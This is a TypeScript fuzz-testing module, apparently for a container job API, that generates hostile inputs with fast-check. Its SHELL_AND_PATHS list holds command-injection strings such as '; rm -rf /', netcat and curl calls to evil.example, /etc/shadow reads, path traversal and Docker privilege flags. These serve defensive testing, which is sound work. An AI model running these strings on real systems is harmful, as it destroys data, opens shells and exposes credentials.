import fc from 'fast-check';

/** What one fuzz target tried and found; violations are property failures with their seed. */
export interface FuzzStats {
  tried: number;
  refused: number;
  accepted: number;
  crashes: number;
  readonly violations: string[];
}

export const newStats = (): FuzzStats => ({ tried: 0, refused: 0, accepted: 0, crashes: 0, violations: [] });

/** A property failure that is a crash (an exception, a 500, a dead server), not a wrong answer. */
export class FuzzCrash extends Error {
  override readonly name = 'FuzzCrash';
}

/** Throws a violation with `what` unless `ok`. */
export function check(ok: boolean, what: string): asserts ok {
  if (!ok) throw new Error(what);
}


/** An object whose own enumerable keys include `__proto__` (as JSON.parse makes them), for JSON.stringify. */
export function withKey(obj: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(obj)) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
  Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
  return out;
}

// ---- hostile values -------------------------------------------------------------------

export const SHELL_AND_PATHS = [
  '$(reboot)', '`id`', '; rm -rf /', '| nc evil.example 4444', '&& curl evil.example', '>/etc/passwd', '${IFS}cat${IFS}/etc/shadow',
  '../../etc/passwd', '..\\..\\windows\\system32', '%2e%2e%2f%2e%2e%2f', '/jobs/../..', '....//', '--privileged', '-v /:/host', '--network=host',
  'a b', 'a\tb', 'a\nb', 'a\r\nb', 'nginx latest', 'nginx;reboot', 'nginx@sha256:zz', 'NGINX', 'nginx:', ':tag', '/nginx', 'nginx/', 'a//b',
  'localhost:5000', 'host:99999999/app', '[::1]:5000/app', 'docker.io/library/nginx:latest --rm',
];
export const UNICODE = ['\ud800', 'a\udc00b', '\udbff\udbff', '\u0000', 'a\u0000b', '\u202egnp.exe', '\u200b', '\ufeff', '\uffff', '\u{10ffff}', 'é', 'e\u0301', '日本', '🙂', '\u0085', '\u2028'];
export const NUMBER_STRINGS = ['NaN', 'Infinity', '-Infinity', '1e308', '-0', '0x10', '1_000', '', ' ', '9'.repeat(400), '-1', '0.5'];
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf'];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SHELL_AND_PATHS, ...UNICODE, ...NUMBER_STRINGS, ...PROTO_KEYS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), maxLength: 20 }),
  fc.nat({ max: 9000 }).map((n) => 'x'.repeat(n)),
  fc.tuple(fc.constantFrom(...SHELL_AND_PATHS), fc.constantFrom(...UNICODE)).map(([a, b]) => a + b),
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(1e308, -1e308, -0, 0, 2 ** 53, 2 ** 53 + 2, -(2 ** 53), 2 ** 31, -1, 0.5, 1e-320, Number.MAX_SAFE_INTEGER, 1.5, 257_000),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** Any JSON value a caller might send where another was expected. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [[]], { a: 1 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(...PROTO_KEYS).map((k) => withKey({}, k, 'x')) },
);

/** Raw body texts that are not a job at all. */
export const hostileRawBody: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 200 }),
  fc.constantFrom('', ' ', 'null', '[]', '{}', '"job"', '1', 'true', '{"name":', '{"a":1}}', '\ufeff{}', '{"name":"web",}'),
  fc.integer({ min: 1, max: 12_000 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
  fc.integer({ min: 1, max: 10_000 }).map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n)),
  fc.constant(`{"command":[${'"x",'.repeat(20_000)}"x"]}`),
  fc.integer({ min: 64 * 1024 - 16, max: 70_000 }).map((n) => JSON.stringify({ name: 'x'.repeat(n) })),
  fc.constant(`{"name":"${'é'.repeat(33_000)}"}`),
);

export const contentType: fc.Arbitrary<string | undefined> = fc.oneof(
  fc.constant(undefined),
  fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=latin1', '', '\u0000', 'application/json\r\nX-Evil: 1'),
);
